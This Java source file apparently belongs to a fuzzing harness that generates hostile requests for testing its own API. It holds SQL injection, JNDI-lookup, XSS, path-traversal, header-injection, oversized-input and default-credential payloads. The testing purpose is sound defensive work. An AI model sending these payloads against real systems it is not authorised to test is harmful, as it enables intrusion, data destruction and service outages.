package io.autoconn.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.function.Supplier;

/** The building blocks of hostile requests: values, bodies, filters, cursors, ids and headers. */
final class Hostile {
    private static final int MIB = 1 << 20;

    // Built once: the big values in them (megabytes of text) would otherwise be rebuilt for every try.
    private static final Gen<String> STRINGS = buildStrings();
    private static final Gen<String> FILTERS = buildFilters();
    private static final Gen<String> SORTS = buildSorts();
    private static final Gen<String> LIMITS = buildLimits();
    private static final Gen<List<String[]>> HEADERS = buildHeaderAbuse();
    /** JSON nested 10,000 and 100,000 levels deep, closed or not. */
    private static final List<byte[]> DEEP = java.util.stream.Stream.of(10_000, 100_000).flatMap(depth ->
            java.util.stream.Stream.of("[".repeat(depth) + "]".repeat(depth),
                    "{\"a\":".repeat(depth) + "1" + "}".repeat(depth), "[".repeat(depth),
                    "{\"name\":" + "[".repeat(depth) + "]".repeat(depth) + "}")).map(Hostile::utf8).toList();
    private static final Map<Object, Gen<?>> BY_ARGUMENT = new ConcurrentHashMap<>();

    private Hostile() {
    }

    static Gen<String> strings() {
        return STRINGS;
    }

    static Gen<String> filters() {
        return FILTERS;
    }

    static Gen<String> sorts() {
        return SORTS;
    }

    static Gen<String> limits() {
        return LIMITS;
    }

    static Gen<List<String[]>> headerAbuse() {
        return HEADERS;
    }

    @SuppressWarnings("unchecked")
    private static <T> Gen<T> once(String what, Object argument, Supplier<Gen<T>> build) {
        return (Gen<T>) BY_ARGUMENT.computeIfAbsent(List.of(what, argument), k -> build.get());
    }

    /** Strings that have broken servers: huge, NUL, lone surrogates, direction and zero-width marks, injections. */
    private static Gen<String> buildStrings() {
        return Gen.oneOf(
                Gen.of("", " ", "\u0000", "a\u0000b", "\uD800", "\uDC00", "x\uD83D", "\uD83D\uDE00",
                        "\u202Eevil\u202C", "\u200B\u200C\u200D\u2060\uFEFF", "\uFFFE\uFFFF", "e\u0301\u0301\u0301\u0301",
                        "\u0007\u001b[31mred", "\r\n\r\nX-Injected: 1", "\t", "null", "undefined", "NaN",
                        "' OR '1'='1", "'; DROP TABLE connections; --", "\" or \"1\"=\"1", "${jndi:ldap://x/y}",
                        "{{7*7}}", "<script>alert(1)</script>", "%s%s%s%n", "../../../../etc/passwd",
                        "..\\..\\windows\\win.ini", "\u0130\u0131\u017F", "ǅ", "\uFDFD".repeat(1000),
                        "x".repeat(100_000), "a".repeat(MIB), "é".repeat(MIB / 2 + 1)),
                Gen.strings(Character.MIN_VALUE, Character.MAX_VALUE, 0, 64),
                Gen.strings('\u0000', '\u001f', 1, 8));
    }

    /** A value of any JSON type but the expected one, or of no Java type at all. */
    static Gen<Object> wrongValues(String expectedType) {
        return once("wrongValues", expectedType, () -> buildWrongValues(expectedType));
    }

    private static Gen<Object> buildWrongValues(String expectedType) {
        List<Object> values = new ArrayList<>(List.of(
                new JsonText.Raw("null"), true, false, 0, -1, 1.5, new JsonText.Raw("1e309"),
                new JsonText.Raw("-1e309"), new JsonText.Raw("99999999999999999999999999999999"),
                new JsonText.Raw("-9223372036854775809"), new JsonText.Raw("1e-400"), new JsonText.Raw("-0"),
                new JsonText.Raw("0.00000000000000000000000000000000000001"), List.of(), Map.of(),
                List.of(List.of()), Map.of("a", Map.of()), List.of("x", 1, Map.of()), "x", "",
                new JsonText.Raw("[" + "1,".repeat(100_000) + "1]")));
        values.removeIf(v -> switch (expectedType) {
            case "string" -> v instanceof String;
            case "boolean" -> v instanceof Boolean;
            case "array" -> v instanceof List<?>;
            case "object" -> v instanceof Map<?, ?>;
            default -> false;
        });
        return Gen.of(values);
    }

    /** Bodies that are not JSON, or not one object: derived from a plausible body's text. */
    static Gen<byte[]> malformedJson(String plausible) {
        return once("malformedJson", plausible, () -> buildMalformedJson(plausible));
    }

    private static Gen<byte[]> buildMalformedJson(String plausible) {
        byte[] good = plausible.getBytes(StandardCharsets.UTF_8);
        return Gen.oneOf(
                Gen.ints(0, Math.max(0, good.length - 1))
                        .map(n -> java.util.Arrays.copyOf(good, n)),
                Gen.of("garbage", "}", "]", ",", plausible, "\u0000", " x", "{}").map(tail -> utf8(plausible + tail)),
                Gen.of("{", "}", "[", "{\"a\":", "[1,2", "{'name':'x'}", "{name:1}", "{\"a\":1,}",
                        "/* c */{}", "NaN", "{\"a\":01}", "\"str", "{\"a\" 1}", "{\"a\":\"\\x\"}",
                        "{\"a\":\"\\u12\"}", "{\"a\":\"\\ud800\"}", "{\"a\":\"\u0001\"}", "", " ", "null", "[]", "{}",
                        "0", "\"x\"", "true", "{\"name\":\"a\",\"name\":\"b\"}", "[{}]", "{\"\":\"\"}", "\u0000{}",
                        "{}\u0000").map(Hostile::utf8),
                Gen.of(DEEP),
                Gen.of(bytes(0xff, 0xfe), bytes(0xc0, 0xaf), bytes(0xed, 0xa0, 0x80), bytes(0xe2, 0x82),
                        bytes(0xf8, 0x88, 0x80, 0x80, 0x80), bytes(0x80), bytes(0xf4, 0x90, 0x80, 0x80))
                        .map(bad -> concat(utf8("{\"name\":\""), bad, utf8("\"}"))),
                Gen.of(bytes(0xef, 0xbb, 0xbf), bytes(0xfe, 0xff)).map(bom -> concat(bom, good)),
                Gen.just(plausible.getBytes(StandardCharsets.UTF_16)),
                Gen.of(MIB + 1, 3 * MIB).map(n -> utf8(plausible + " ".repeat(n))));
    }

    /** SCIM filter abuse: injections, unbalanced parentheses, 10k-term filters, unknown attributes and operators. */
    private static Gen<String> buildFilters() {
        Gen<String> attribute = Gen.of("name", "id", "ownerId", "spaceId", "connectorId", "createdAt",
                "updatedAt", "eventType", "eventTime", "userId", "status", "email", "type", "unknown", "NAME",
                "name.sub", "name[value eq \"x\"]", "", "\"name\"", "$name", "1");
        Gen<String> operator = Gen.of("eq", "ne", "co", "sw", "ew", "gt", "ge", "lt", "le", "pr",
                "EQ", "xx", "==", "like", "", "in");
        Gen<String> value = Gen.oneOf(
                strings().filter(s -> s.length() < 10_000).map(s -> "\"" + s.replace("\"", "\\\"") + "\""),
                Gen.of("1", "-1", "1e309", "true", "null", "x", "\"unterminated", "'x'", "\"\\\"",
                        "\"2024-13-45T99:99:99Z\"", "\"9999999-01-01T00:00:00Z\"", "\"%\"", "\"_\"", "\"\\\\\"",
                        "\"\\u0000\""));
        Gen<String> comparison = random -> attribute.next(random) + " "
                + operator.next(random) + " " + value.next(random);
        return Gen.oneOf(
                comparison,
                Gen.of(
                        "name eq \"x\" or 1=1", "name eq \"x\" or \"1\"=\"1\"", "name eq \"x\"; DROP TABLE connections; --",
                        "'; DROP TABLE users; --", "name eq 'x' OR ''=''", "((name eq \"x\")", "name eq \"x\")",
                        ")(", "(((((", "not", "not (", "and", "name eq", "eq \"x\"", "name eq \"", "name pr and",
                        "name eq \"x\" and", "or or or", "\u0000", "name eq \"x\"\u0000 or 1=1",
                        "name eq \"x\" ) or ( name eq \"y\"", "name co \"%' OR '1'='1\"", "name sw \"\uFFFF\"",
                        "id eq \"' UNION SELECT * FROM api_keys --\"",
                        "(".repeat(10_000) + "name eq \"x\"" + ")".repeat(10_000),
                        "(".repeat(10_000), "not (".repeat(5_000) + "name pr" + ")".repeat(5_000),
                        "name eq \"x\"" + " or name eq \"x\"".repeat(10_000),
                        "name eq \"x\"" + " and name ne \"y\"".repeat(10_000),
                        "name eq \"" + "x".repeat(MIB / 2) + "\""),
                Gen.strings(Character.MIN_VALUE, Character.MAX_VALUE, 0, 40));
    }

    private static Gen<String> buildSorts() {
        return Gen.oneOf(Gen.of("", "-", "+", "--name", "++name", "name,name", "name,-name",
                "unknown", "-createdAt,", ",", "NAME", "name desc", "name;DROP TABLE x", "'; DROP TABLE spaces; --",
                "name\u0000", "-" + "x".repeat(10_000), "name," .repeat(5_000), "(name)", "*"),
                strings().filter(s -> s.length() < 10_000));
    }

    private static Gen<String> buildLimits() {
        return Gen.oneOf(Gen.of("-1", "0", "201", "1000000", "99999999999999999999", "1e2", "0x10",
                "abc", "", "1.0", " 5", "+5", "-0", "NaN", "Infinity", "2147483648", "-2147483649", "٣", "５",
                "1" + "0".repeat(10_000), "5\u0000"), Gen.ints().map(String::valueOf));
    }

    /** Cursors: random base64, a real one truncated, altered or inflated, and no base64 at all. */
    static Gen<String> cursors(String real) {
        return once("cursors", real, () -> buildCursors(real));
    }

    private static Gen<String> buildCursors(String real) {
        return Gen.oneOf(
                Gen.bytes(300)
                        .map(b -> Base64.getUrlEncoder().withoutPadding().encodeToString(b)),
                Gen.ints(0, real.length() - 1).map(n -> real.substring(0, n)),
                Gen.ints(0, real.length() - 1).map(n -> real.substring(0, n)
                        + (real.charAt(n) == 'A' ? 'B' : 'A') + real.substring(n + 1)),
                Gen.of(real + "A", real + real, real + "==", "A".repeat(100_000), "%%%", "====", "\u0000",
                        "' OR 1=1 --", real.toUpperCase(), "..%2f..",
                        b64("{\"id\":\"x\",\"dir\":\"next\"}"), b64("'; DROP TABLE connections; --"), b64("null"),
                        b64("[" .repeat(10_000)), b64("{\"v\":1e309}"), b64("\u0000\u0000\u0000")),
                strings().filter(s -> s.length() < 10_000));
    }

    /** Ids that try to leave their path segment, overflow it, or confuse the decoder. */
    static Gen<String> pathIds(String real) {
        return once("pathIds", real, () -> buildPathIds(real));
    }

    private static Gen<String> buildPathIds(String real) {
        return Gen.oneOf(
                Gen.of("..", ".", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f", "..%252f..%252f", "%00",
                        "abc%00def", real + "%00", "%2F", "a%2Fb", "%5c..%5c", "%", "%zz", "%c0%af", "%ff%fe",
                        "%ed%a0%80", "%E2%80%AE", "%F0%9F%98%80", "%27%20OR%201%3D1", "%22", "%3Cscript%3E", "~", "*",
                        "%20", "+", ";", ";jsessionid=1", "null", "undefined", "0", "-1", real.toUpperCase(),
                        real + "%2F..", real + ";x", "A".repeat(3_000), "%41".repeat(2_000),
                        "3f2c8a4e-5b1d-4c7e-9a0f-6d2e1b7c8a90", "me", "types", "sources", "actions", "oauth"),
                Gen.strings('!', '~', 1, 40)
                        .filter(s -> !s.contains("/") && !s.contains("?") && !s.contains("#") && !s.contains("%")));
    }

    /** One abused header, or a crowd of them. */
    private static Gen<List<String[]>> buildHeaderAbuse() {
        Gen<String[]> one = Gen.oneOf(
                Gen.of("text/plain", "application/xml", "multipart/form-data",
                        "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/json; charset=latin1",
                        "application/json; charset=utf-7", "application/json; charset=nonsense", ";;;", "", "*/*",
                        "application/json-patch+json", "application/merge-patch+json", "application/json; q=x",
                        "application/" + "x".repeat(10_000)).map(v -> h("Content-Type", v)),
                Gen.of("application/xml", "text/html", "*/*;q=abc", "application/json;q=0", "", "image/*",
                        "application/json, text/plain;q=9", "a/" + "b".repeat(5_000), "\u00ff/\u00fe")
                        .map(v -> h("Accept", v)),
                Gen.of("00-zzzz-zz-01", "00-" + "0".repeat(32) + "-" + "0".repeat(16) + "-01",
                        "ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
                        "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01-extra", "x".repeat(6_000), "",
                        "00-0AF7651916CD43DD8448EB211C80319C-B7AD6B7169203331-01", "\u00ff\u00fe",
                        "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-zz").map(v -> h("traceparent", v)),
                Gen.of("*", "\"1\"", "W/\"1\"", "\"-1\"", "\"99999999999999999999\"", "1", "\"", "\"a\", \"b\"",
                        "\"" + "9".repeat(5_000) + "\"").map(v -> h("If-Match", v)),
                Gen.of("gzip", "deflate", "br", "x-nonsense", "gzip, gzip").map(v -> h("Content-Encoding", v)),
                Gen.of("100-continue", "nonsense").map(v -> h("Expect", v)),
                Gen.of("evil.example", "evil.example:99999", "<script>", "", "a b", "[::1", "x".repeat(5_000))
                        .map(v -> h("Host", v)),
                Gen.of("evil.example", "javascript:", "\"><").map(v -> h("X-Forwarded-Host", v)),
                Gen.of("gopher", "", "https, http").map(v -> h("X-Forwarded-Proto", v)),
                Gen.of("bytes=0-1", "bytes=-1-", "x").map(v -> h("Range", v)),
                Gen.of("a=" + "b".repeat(7_000), "=;=;=").map(v -> h("Cookie", v)),
                Gen.of("X-Fuzz", "x-empty").map(n -> h(n, "\u00ff\u00fe\u0080")));
        return Gen.oneOf(
                one.list(1, 3),
                Gen.of(100, 500, 2_000).map(n -> {
                    List<String[]> many = new ArrayList<>();
                    for (int i = 0; i < n; i++) {
                        many.add(h("X-Fuzz-" + i, "v" + i));
                    }
                    return many;
                }),
                Gen.of(5_000, 20_000, 100_000).map(n -> only("X-Huge", "v".repeat(n))));
    }

    /** Authorization abuse: sent instead of the admin's header. */
    static Gen<List<String[]>> authorizationAbuse(String realKey) {
        return once("authorizationAbuse", realKey, () -> buildAuthorizationAbuse(realKey));
    }

    private static Gen<List<String[]>> buildAuthorizationAbuse(String realKey) {
        return Gen.<List<String[]>>of(
                List.of(),
                only("Authorization", "Bearer"),
                only("Authorization", "Bearer "),
                only("Authorization", "Basic YWRtaW46YWRtaW4="),
                List.of(h("Authorization", "Bearer " + realKey), h("Authorization", "Bearer ack_wrong")),
                List.of(h("Authorization", "Bearer ack_wrong"), h("Authorization", "Bearer " + realKey)),
                only("Authorization", "Bearer " + realKey + "\u0000"),
                only("Authorization", "Bearer " + realKey + "x"),
                only("Authorization", "Bearer " + realKey.toUpperCase()),
                only("Authorization", "Bearer " + "A".repeat(7_000)),
                only("Authorization", "Bearer " + "A".repeat(100_000)),
                only("Authorization", "Bearer \u00ff\u00fe"),
                only("Authorization", "Bearer ' OR '1'='1"),
                only("Authorization", "bearer" + realKey),
                only("Authorization", "Bearer " + realKey + ", Bearer " + realKey));
    }

    /** One header, as a list of headers (List.of would take a lone String[] for its varargs). */
    static List<String[]> only(String name, String value) {
        List<String[]> one = new ArrayList<>();
        one.add(h(name, value));
        return one;
    }

    static String[] h(String name, String value) {
        return new String[] {name, value};
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String b64(String s) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(utf8(s));
    }

    private static byte[] bytes(int... values) {
        byte[] b = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            b[i] = (byte) values[i];
        }
        return b;
    }

    static byte[] concat(byte[]... parts) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }
}
